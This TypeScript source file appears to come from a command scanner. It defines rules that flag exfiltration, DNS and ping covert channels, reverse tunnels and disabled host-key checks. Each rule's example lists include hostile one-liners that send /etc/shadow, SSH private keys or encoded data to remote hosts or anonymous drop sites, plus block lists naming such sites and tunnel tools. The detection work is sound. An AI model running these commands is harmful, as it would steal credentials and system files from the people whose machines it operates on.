/** Taking things away, openly or through channels that were made for something else. */
import type { Program, ShellReading } from '../shell.ts';
import { isDownloader, isShell, isSocket } from './execution.ts';
import { hasOption, joined, operands, optionValue, shows, sourcesOf, type Rule } from './rule.ts';
import { isAmong, normalised, pathsNamed, sharedFolder } from './paths.ts';
import { sensitive } from './collection.ts';
import { hashStores, lookers, names, userStores } from './stores.ts';

const askers = names('dig nslookup host drill ping ping6 hping3 kdig resolvectl');
const textEncoders = names('base64 base32 xxd b64encode od hexdump openssl');
const copiers = names('scp rsync sftp tftp ftp');
const proxies = names('torsocks torify proxychains proxychains4 tor');
const covertTunnels = names('iodine iodined dnscat dnscat2 ptunnel ptunnel-ng icmpsh udp2raw icmptunnel hans gost');

function sentFiles(program: Program): string[] {
  const words = program.args
    .flatMap((word) => word.split(/(?=@)/))
    .filter((word) => word.startsWith('@'))
    .map((word) => word.slice(1).split(';')[0] ?? '');
  const uploads = program.args.flatMap((word, at) =>
    ['-T', '--upload-file', '--post-file', '--body-file'].includes(word)
      ? [program.args[at + 1] ?? '']
      : (word.match(/^--(?:upload|post|body)-file=(.+)/)?.[1] ?? []),
  );
  return [...words, ...uploads].map((word) => normalised(word, program.directory));
}

/** Places that take files from anybody, without an account. */
const dropHosts =
  /(^|[/.@])(transfer\.sh|file\.io|paste\.(rs|ee|c-net\.org)|0x0\.st|ix\.io|sprunge\.us|termbin\.com|pastebin\.com|hastebin\.com|dpaste\.\w+|webhook\.site|pipedream\.net|requestbin\.\w+|hookbin\.com|oshi\.at|bashupload\.com|temp\.sh|tmpfiles\.org|gofile\.io|catbox\.moe|anonfiles\.com|discord(app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|interact\.sh|oast\.\w+|burpcollaborator\.net|dnslog\.cn|beeceptor\.com|ngrok(-free)?\.(io|app|dev))/i;

const sendingOptions = names('--upload-file --form --data --data-binary --data-raw --data-urlencode --post-file --post-data --body-file');
const sends = (program: Program): boolean => hasOption(program, 'TFd', ...sendingOptions);

/** Programs that copy files to another machine, and how a place on one looks among their words. */
const carriers = names('scp rsync sftp rclone s3cmd gsutil mc az aws azcopy gcloud b2 restic smbclient croc wormhole ffsend');
const elsewhere = /^[\w.-]+(@[\w.-]+)?:(?!\/\/)|^\w+:\/\/|^[\w-]+:[\w/-]*$|^send$|^put /;

function carried(program: Program): string | undefined {
  if (!carriers.has(program.name)) return undefined;
  const words = operands(program);
  const to = words.at(-1) ?? '';
  const away = elsewhere.test(to) || words.some((word) => word === 'send' || word === 'upload' || word.startsWith('put '));
  if (!away) return undefined;
  return words
    .filter((word) => word !== to || words.includes('send'))
    .map((word) => normalised(word, program.directory))
    .find(
      (path) =>
        isAmong(path, hashStores) ||
        isAmong(path, userStores) ||
        /^\/etc\/(passwd|sudoers)$|^~\/\.(ssh|aws|gnupg|\w*_history)$/.test(path) ||
        (sensitive(path) && /\/[^/]*(loot|dump|creds?|secrets?|exfil|stage)/i.test(path)),
    );
}

const dumps = names('mysqldump mariadb-dump pg_dump pg_dumpall mongodump slapcat');

function sentSource(program: Program, reading: ShellReading): Program | undefined {
  return sourcesOf(program, reading).find(
    (candidate) => dumps.has(candidate.name) || (!lookers.has(candidate.name) && pathsNamed(candidate).some(sensitive)),
  );
}

const asksWhoIAm = names('whoami id uname ifconfig env printenv ps w who netstat ip last crontab history ss');
const encoders = names('base64 base32 xxd hexdump od gzip openssl basenc uuencode b64encode hex');

/** Names asked of the DNS, and pings, that carry what another program gave. */
function carriesInQuestion(program: Program, reading: ShellReading): boolean {
  if (!askers.has(program.name)) return false;
  const filled = program.args.some((word) => /(\$\(\S*\)|\$\{?\w+\}?)\.[\w-]+\.?\w/.test(word));
  const padded = program.name.startsWith('ping') && /(^| )-p/.test(joined(program)) && optionValue(program, '-p') !== null;
  const source = sourcesOf(program, reading).some((candidate) => textEncoders.has(candidate.name) || asksWhoIAm.has(candidate.name));
  const encoded = source && (filled || padded);
  return encoded || (program.name === 'hping3' && /(^| )(-E|--file|-e|--sign)( |$)/.test(joined(program)));
}

const rawChannel = shows([
  ['socat', /^(?=.*(file|open|gopen|create):)(?=.*(tcp|udp|openssl|ssl)[\w-]*:)/i],
  ['whois', /^(?=.*(-h|--host))(?=.*(-p|--port))/],
  ['finger', /\$\(|^\S{24,}@/],
  ['wget', /--(post|body)-file[= ]/],
  ['smbclient', /-c ['"]?put /],
  ['mosquitto_pub', /(^| )-f /],
]);

export const exfiltration: readonly Rule[] = [
  {
    code: 'EXFILTRATION',
    tactic: 'EXFILTRATION',
    points: 30,
    find(program, reading) {
      const taken = carried(program);
      if (taken !== undefined) return `sends ${taken.slice(0, 80)} to another machine`;
      const uploads = isDownloader(program);
      const remote = program.name === 'ssh' && program.pipedFrom !== null;
      if (!uploads && !remote && !isSocket(program)) return null;
      const file = uploads
        ? sentFiles(program).find(sensitive)
        : program.redirects
            .filter(({ operator }) => operator === '<')
            .map(({ target }) => normalised(target, program.directory))
            .find(sensitive);
      if (file !== undefined) return `sends ${file.slice(0, 80)} over the network`;
      const source =
        !uploads || sends(program) || program.args.some((word) => word.includes('$(')) ? sentSource(program, reading) : undefined;
      if (source !== undefined) return `sends what ${source.name} reads over the network`;
      return uploads && sends(program) && program.args.some((word) => dropHosts.test(word))
        ? 'sends to a place that takes files from anybody'
        : null;
    },
    suspicious: [
      'tar cz /etc | nc h 1',
      'cat /etc/passwd | curl -d @- http://h',
      'curl -T /etc/shadow ftp://h',
      'nc h 1 < ~/.ssh/id_rsa',
      'curl http://h/?x="$(base64 /etc/passwd)"',
      'wget --post-file=/etc/shadow http://h',
      'curl -F "f=@x.zip" https://transfer.sh',
      'scp /etc/passwd ann@h:',
      'rsync -a ~/.ssh h:/x',
      'aws s3 cp /etc/shadow s3://b/',
      'rclone copy /tmp/loot remote:x',
      'tar cz /etc | ssh ann@h "cat > x"',
    ],
    harmless: [
      'curl -T build.zip https://h',
      'tar cz src | nc h 1',
      'curl -d @body.json http://h',
      'curl https://transfer.sh/x',
      'cat README | curl -d @- http://h',
      'tar cz /etc > etc.tgz',
      'scp build.zip ann@h:/srv',
      'scp ann@h:/srv/x .',
      'rsync -a ~/ h:/backup',
      'aws s3 cp dist s3://b --recursive',
    ],
  },
  {
    code: 'SECRETS_DROPPED',
    tactic: 'EXFILTRATION',
    points: 50,
    find(program, reading) {
      if (!isDownloader(program) || !program.args.some((word) => dropHosts.test(word))) return null;
      return sentFiles(program).some(sensitive) || (sends(program) && sentSource(program, reading) !== undefined)
        ? 'sends what should stay to a place that takes files from anybody'
        : null;
    },
    suspicious: [
      'curl -F "f=@/tmp/loot.zip" https://transfer.sh',
      'tar cz /etc | curl -T - https://file.io',
      'curl --data-binary @~/.ssh/id_rsa https://webhook.site/x',
    ],
    harmless: ['curl https://transfer.sh/x', 'curl -d @body.json https://h', 'wget https://file.io/x'],
  },
  {
    code: 'COVERT_CHANNEL',
    tactic: 'EXFILTRATION',
    points: 50,
    find: (program, reading) => (carriesInQuestion(program, reading) ? `hides what it sends in the questions of ${program.name}` : null),
    suspicious: [
      'dig "$(base64 -w0 x).example.com"',
      'for b in $(xxd -p -c 16 x); do ping -c 1 -p "$b" h; done',
      'nslookup $(whoami).example.com',
      'hping3 --icmp -d 100 --sign s --file x h',
      'cat x | base64 | while read l; do host $l.example.com; done',
    ],
    harmless: [
      'dig example.org',
      'ping -c 1 $HOST',
      'host "$(hostname)"',
      'nslookup $NAME',
      'dig +short "$1"',
      'host $(ip route | cut -d" " -f3)',
    ],
  },
  {
    code: 'RAW_TRANSFER',
    tactic: 'EXFILTRATION',
    points: 30,
    find(program, reading) {
      if (rawChannel(program)) return `moves data with ${program.name}, which is not for it`;
      if (!isSocket(program)) return null;
      const file = program.redirects.find(
        ({ operator, target }) => operator === '<' && /^[/~]/.test(target) && !target.startsWith('/dev/'),
      )?.target;
      if (file !== undefined) return `sends ${file.slice(0, 60)} over a bare connection`;
      const packed = sourcesOf(program, reading).find(({ name }) => encoders.has(name) && name !== 'gzip');
      if (packed !== undefined) return `sends what ${packed.name} has encoded over a bare connection`;
      const kept = program.redirects.some(({ operator, target }) => operator === '>' && !/^(\/dev\/(null|tty)|&?\d)$/.test(target));
      return kept && program.name !== 'telnet' && program.pipedFrom === null ? 'fetches a file over a bare connection' : null;
    },
    suspicious: [
      'nc h 1 < /srv/x.tar',
      'socat -u file:/srv/x tcp:h:1',
      'base64 x | nc h 1',
      'wget --post-file=/srv/x http://h',
      'nc h 1 > agent',
      'whois -h h -p 1 "$(cat x)"',
      'openssl s_client -quiet -connect h:1 < /srv/x',
    ],
    harmless: [
      'nc -zv h 22',
      'echo x | nc h 1',
      'socat - tcp:h:80',
      'openssl s_client -connect h:443',
      'whois example.org',
      'nc h 1 < request.txt',
      'openssl s_client -connect h:443 < /dev/null',
    ],
  },
  {
    code: 'REPORTS_BACK',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find(program, reading) {
      if (!isDownloader(program) && !isSocket(program)) return null;
      const sources = sourcesOf(program, reading);
      const told = sources.find(({ name, args }) => asksWhoIAm.has(name) && (name !== 'uname' || args.includes('-a')));
      const carries = sends(program) || isSocket(program) || program.args.some((word) => /[?/=]?\$\(/.test(word));
      if (told !== undefined && carries) return `reports what ${told.name} tells to another machine`;
      const encoded = sources.find(({ name }) => textEncoders.has(name));
      const inAddress = program.args.some((word) => /:\/\/[^\s]*\$\(/.test(word));
      if (encoded !== undefined && (sends(program) || inAddress) && isDownloader(program))
        return 'reports something encoded to another machine';
      if (program.args.some((word) => /\.onion([:/]|$)/.test(word))) return 'talks to a hidden service';
      return program.args.some((word) => /^(https?:\/\/)?[\w+-]{6,}={1,2}\.[\w-]+\./.test(word))
        ? 'puts something encoded into the name of a machine'
        : null;
    },
    suspicious: [
      'curl aGVsbG8gdGhlcmU=.example.com',
      'curl "http://h/?u=$(whoami)"',
      'id | nc h 1',
      'env | curl -d @- http://h',
      'curl -d "$(base64 x)" http://h',
      'curl --socks5-hostname localhost:9050 http://x.onion/',
    ],
    harmless: [
      'curl http://h/$(uname -m).tgz',
      'curl -d "host=$(hostname)" http://h',
      'curl http://h/$VERSION',
      'curl -o docker-compose "https://h/$(uname -s)-$(uname -m)"',
    ],
  },
  {
    code: 'TUNNEL',
    tactic: 'COMMAND_AND_CONTROL',
    points: 15,
    find(program) {
      if (tunnels(program)) return `opens a way in from outside with ${program.name}`;
      const proxied = proxies.has(program.name) || program.args.some((word) => /^socks[45]h?(a|-hostname)?:\/\/(127|localhost)/.test(word));
      return (proxied && !isShell(program)) || program.via.some((name) => proxies.has(name)) ? 'hides where it comes from' : null;
    },
    suspicious: [
      'ssh -R 8080:localhost:80 h',
      'ngrok tcp 22',
      'cloudflared tunnel --url localhost:8080',
      'proxychains4 curl h',
      'socat TCP-LISTEN:80,fork TCP:h:80',
    ],
    harmless: ['ssh -L 8080:localhost:80 h', 'ngrok version', 'cloudflared tunnel list', 'ssh h ls -R'],
  },
  {
    code: 'SECRET_TUNNEL',
    tactic: 'COMMAND_AND_CONTROL',
    points: 30,
    find(program) {
      const covert = covertTunnels.has(program.name);
      if (covert) return `opens a hidden way in or out with ${program.name}`;
      const quiet =
        program.redirects.some(({ target }) => target === '/dev/null') ||
        program.via.includes('nohup') ||
        program.via.includes('setsid') ||
        sharedFolder.test(program.path);
      return tunnels(program) && quiet ? `opens a way in from outside with ${program.name}, out of sight` : null;
    },
    suspicious: [
      'nohup ngrok tcp 22',
      'cloudflared tunnel --url localhost:22 >/dev/null 2>&1',
      'iodine -f x t.example.com',
      'nohup ssh -R 2222:localhost:22 h',
    ],
    harmless: ['ssh -N -L 1:h:2 h', 'nohup node server.js', 'cloudflared --version', 'ngrok help'],
  },
  {
    code: 'CARRIED_ACROSS',
    tactic: 'EXFILTRATION',
    points: 15,
    find(program) {
      if (!copiers.has(program.name)) return null;
      const words = operands(program);
      const shared = words.filter((word) => sharedFolder.test(word.replace(/^[^/]*:/, '')));
      const unseen = unverified(program) && /:/.test(words.at(-1) ?? '');
      return (shared.length > 0 || unseen) && words.some((word) => /^[\w.-]+(@[\w.-]+)?:/.test(word))
        ? 'carries files from a shared folder to another machine, or there'
        : null;
    },
    suspicious: ['scp /tmp/x ann@h:/tmp/', 'rsync -r /tmp/d/ ann@h:/tmp/d', 'scp ann@h:/x /tmp/'],
    harmless: ['scp x ann@h:', 'rsync -a src h:/srv', 'scp /tmp/a /tmp/b'],
  },
  {
    code: 'UNVERIFIED_HOST',
    tactic: 'DEFENCE_EVASION',
    points: 15,
    find: (program) => (unverified(program) ? 'leaves no trace of the machine it connects to' : null),
    suspicious: ['scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null x h:'],
    harmless: ['ssh -o StrictHostKeyChecking=no h', 'ssh -o UserKnownHostsFile=~/.k h'],
  },
];

const unverified = shows([['ssh scp sftp rsync sshpass', /^(?=.*StrictHostKeyChecking[= ]no)(?=.*UserKnownHostsFile[= ]\/dev\/null)/]]);

const tunnels = shows([
  ['ssh autossh', /(^| )-[a-zA-Z]*R ?\S*\d/],
  ['ngrok', /^(tcp|http|tls|start)\b/],
  ['cloudflared', /^(tunnel|access).*(--url|run|--token|ssh|tcp)/],
  ['lt localtunnel bore zrok pagekite frpc frps rathole', /\S/],
  ['socat', /(tcp|udp)\w*-listen:\d+.*(tcp|udp)\d?(-connect)?:/i],
  ['tailscale', /^funnel/],
]);
